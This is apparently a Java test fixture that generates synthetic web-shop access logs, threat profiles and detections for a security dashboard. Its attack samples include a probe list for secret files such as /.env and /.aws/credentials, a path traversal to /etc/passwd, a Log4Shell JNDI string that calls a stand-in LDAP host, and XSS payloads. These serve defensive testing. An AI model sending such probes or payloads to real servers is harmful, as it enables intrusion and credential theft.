package dev.threatip.web;

import dev.threatip.detect.Detection;
import dev.threatip.geo.Asn;
import dev.threatip.geo.Geo;
import dev.threatip.intel.Category;
import dev.threatip.intel.CategoryVerdict;
import dev.threatip.intel.Confidence;
import dev.threatip.intel.ThreatLevel;
import dev.threatip.intel.Verdict;
import dev.threatip.log.AccessEvent;
import dev.threatip.net.IpAddress;
import dev.threatip.store.EventStore;
import dev.threatip.store.ProfileUpdate;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * A few hours of a small shop's access log, written through {@link EventStore}'s public API the
 * way {@code serve} writes it: benign visitors on 198.51.100.0/24 and six flagged clients with
 * categories, detections, geo and ASN (documentation ranges, private-use AS numbers). One client
 * sends a stored-XSS payload in its user agent and query.
 */
final class SiteTraffic {
    static final String SOURCE = "/var/log/nginx/access.log";
    static final String SCANNER = "203.0.113.7";
    static final String BRUTE = "192.0.2.10";
    static final String PROXY = "203.0.113.66";
    static final String BOT = "198.51.100.200";
    static final String EXPLOIT = "2001:db8::5";
    static final String XSS = "203.0.113.99";
    /** Script that would set window.__xss if the dashboard ever parsed data as HTML. */
    static final String XSS_AGENT = "<img src=x onerror=\"window.__xss='user-agent'\">";
    static final String XSS_QUERY = "q=<script>window.__xss='log-line'</script>";
    static final int SCANNER_REQUESTS = 60;

    private static final DateTimeFormatter CLF =
            DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);
    private static final String[] PAGES = {"/", "/products", "/products/espresso-grinder", "/products/moka-pot",
        "/cart", "/checkout", "/static/app.css", "/static/app.js", "/images/hero.webp", "/about", "/contact"};
    private static final String[] BROWSERS = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148"};
    private static final String[] PROBES = {"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php",
        "/admin/config.php", "/server-status", "/.aws/credentials", "/backup.sql", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/cgi-bin/../../../../etc/passwd"};

    private final Instant now;
    private final Random random = new Random(7);
    private final List<AccessEvent> events = new ArrayList<>();

    private SiteTraffic(Instant now) {
        this.now = now;
    }

    /** Writes the traffic, with event times in the six hours before {@code now}. */
    static void writeTo(EventStore store, Instant now) {
        new SiteTraffic(now).write(store);
    }

    /** One benign page view from ip, now. */
    static AccessEvent visit(String ip, String path) {
        Instant t = Instant.now();
        String raw = ip + " - - [" + CLF.format(t) + "] \"GET " + path + " HTTP/1.1\" 200 5120 \"-\" \"" + BROWSERS[0] + "\"";
        return new AccessEvent(t, IpAddress.parse(ip), "GET", "shop.example", path, null, 200, 5120, BROWSERS[0], null, raw);
    }

    private void write(EventStore store) {
        for (int i = 1; i <= 40; i++) {
            String ip = "198.51.100." + i;
            String agent = BROWSERS[i % BROWSERS.length];
            int visits = 6 + random.nextInt(14);
            for (int v = 0; v < visits; v++) {
                String page = PAGES[random.nextInt(PAGES.length)];
                add(minutesAgo(5 + random.nextInt(355)), ip, "GET", page, null, random.nextInt(8) == 0 ? 304 : 200, agent);
            }
        }
        for (int i = 0; i < SCANNER_REQUESTS; i++) {
            add(minutesAgo(100 - i), SCANNER, "GET", PROBES[i % PROBES.length], null, i % 7 == 0 ? 403 : 404,
                    "Mozilla/5.0 zgrab/0.x");
        }
        for (int i = 0; i < 40; i++) {
            add(minutesAgo(80).plusSeconds(i * 7L), BRUTE, "POST", "/login", null, 401, "python-requests/2.31.0");
        }
        for (int i = 0; i < 12; i++) {
            add(minutesAgo(200 - i * 9), PROXY, "GET", PAGES[i % PAGES.length], null, 200, BROWSERS[2]);
        }
        for (int i = 0; i < 30; i++) {
            add(minutesAgo(50).plusSeconds(i * 3L), BOT, "GET", "/products/item-" + (1000 + i), null, 200,
                    "Mozilla/5.0 (compatible; DataHarvester/2.1)");
        }
        String jndi = "${jndi:ldap://198.51.100.9:1389/Basic/Command/Base64/d2dldA==}";
        for (int i = 0; i < 5; i++) {
            add(minutesAgo(30 - i), EXPLOIT, "GET", i % 2 == 0 ? "/" : "/api/v1/status", null, 400, jndi);
        }
        for (int i = 0; i < 8; i++) {
            add(minutesAgo(20 - i), XSS, "GET", "/search", XSS_QUERY, 200, XSS_AGENT);
        }
        events.sort((a, b) -> a.time().compareTo(b.time()));
        long[] lines = new long[events.size()];
        for (int i = 0; i < lines.length; i++) {
            lines[i] = i + 1;
        }
        store.appendEvents(events, SOURCE, lines);

        store.upsertProfiles(List.of(
                profile(SCANNER, Verdict.Kind.MALICIOUS, ThreatLevel.HIGH,
                        new Geo("NL", "Amsterdam", 52.374, 4.8897), new Asn(64496L, "Example Hosting B.V."),
                        behavior(Category.SCANNER, Confidence.HIGH, "probing-4xx"),
                        behavior(Category.WEB_ATTACK, Confidence.MODERATE, "path-traversal")),
                profile(BRUTE, Verdict.Kind.MALICIOUS, ThreatLevel.HIGH,
                        new Geo("DE", "Frankfurt am Main", 50.1109, 8.6821), new Asn(64497L, "Example Transit GmbH"),
                        behavior(Category.BRUTE_FORCE, Confidence.HIGH, "login-failures")),
                profile(PROXY, Verdict.Kind.MALICIOUS, ThreatLevel.MEDIUM,
                        new Geo("US", "Ashburn", 39.0438, -77.4874), new Asn(64498L, "Example Cloud LLC"),
                        intel(Category.NETWORK_PROXY, Confidence.MODERATE, "tor_exits")),
                profile(BOT, Verdict.Kind.SUSPICIOUS, ThreatLevel.LOW,
                        new Geo("CN", "Shanghai", 31.2304, 121.4737), new Asn(64499L, "Example Telecom"),
                        behavior(Category.MALICIOUS_BOT, Confidence.GENERAL, "scraping-rate")),
                profile(EXPLOIT, Verdict.Kind.MALICIOUS, ThreatLevel.HIGH,
                        new Geo("BR", "São Paulo", -23.5505, -46.6333), new Asn(64500L, "Example Telecom Brasil S.A."),
                        behavior(Category.EXPLOIT, Confidence.HIGH, "log4shell"),
                        intel(Category.NETWORK_ATTACK, Confidence.MODERATE, "firehol_level1")),
                profile(XSS, Verdict.Kind.MALICIOUS, ThreatLevel.HIGH,
                        new Geo("FR", "Paris", 48.8566, 2.3522), new Asn(64501L, "Example Fibre SAS"),
                        behavior(Category.WEB_ATTACK, Confidence.HIGH, "xss-probe"))));

        store.appendDetections(List.of(
                detection("probing-4xx", Category.SCANNER, Confidence.HIGH, SCANNER, 48, Duration.ofMinutes(5)),
                detection("path-traversal", Category.WEB_ATTACK, Confidence.MODERATE, SCANNER, 6, Duration.ofMinutes(10)),
                detection("login-failures", Category.BRUTE_FORCE, Confidence.HIGH, BRUTE, 40, Duration.ofMinutes(10)),
                detection("scraping-rate", Category.MALICIOUS_BOT, Confidence.GENERAL, BOT, 30, Duration.ofMinutes(1)),
                detection("log4shell", Category.EXPLOIT, Confidence.HIGH, EXPLOIT, 5, Duration.ofMinutes(10)),
                detection("xss-probe", Category.WEB_ATTACK, Confidence.HIGH, XSS, 8, Duration.ofMinutes(10))));
    }

    private Instant minutesAgo(long minutes) {
        return now.minus(Duration.ofMinutes(minutes)).plusSeconds(random.nextInt(50));
    }

    private void add(Instant t, String ip, String method, String path, String query, int status, String agent) {
        long bytes = status == 200 ? 800 + random.nextInt(30_000) : 150 + random.nextInt(400);
        String target = query == null ? path : path + "?" + query;
        String raw = ip + " - - [" + CLF.format(t) + "] \"" + method + " " + target + " HTTP/1.1\" " + status + " "
                + bytes + " \"-\" \"" + agent + "\"";
        events.add(new AccessEvent(t, IpAddress.parse(ip), method, "shop.example", path, query, status, bytes, agent,
                null, raw));
    }

    private ProfileUpdate profile(String ip, Verdict.Kind kind, ThreatLevel level, Geo geo, Asn asn,
                                  CategoryVerdict... categories) {
        IpAddress address = IpAddress.parse(ip);
        List<AccessEvent> own = events.stream().filter(e -> e.client().equals(address)).toList();
        Instant first = own.get(0).time();
        Instant last = own.get(own.size() - 1).time();
        Verdict verdict = new Verdict(kind, level, List.of(categories), List.of(), first, last, false, List.of());
        return new ProfileUpdate(address, verdict, own.size(), first, last, geo, asn);
    }

    private Detection detection(String rule, Category category, Confidence confidence, String ip, long count,
                                Duration window) {
        IpAddress address = IpAddress.parse(ip);
        List<AccessEvent> own = events.stream().filter(e -> e.client().equals(address)).toList();
        return new Detection(rule, category, confidence, ip, address, count, window,
                own.get(0).time().toEpochMilli(), own.get(own.size() - 1).time().toEpochMilli(), List.of(), List.of());
    }

    private static CategoryVerdict behavior(Category category, Confidence confidence, String rule) {
        return new CategoryVerdict(category, confidence, "behavior", List.of(rule), List.of());
    }

    private static CategoryVerdict intel(Category category, Confidence confidence, String feed) {
        return new CategoryVerdict(category, confidence, CategoryVerdict.INTEL, List.of(), List.of(feed));
    }
}
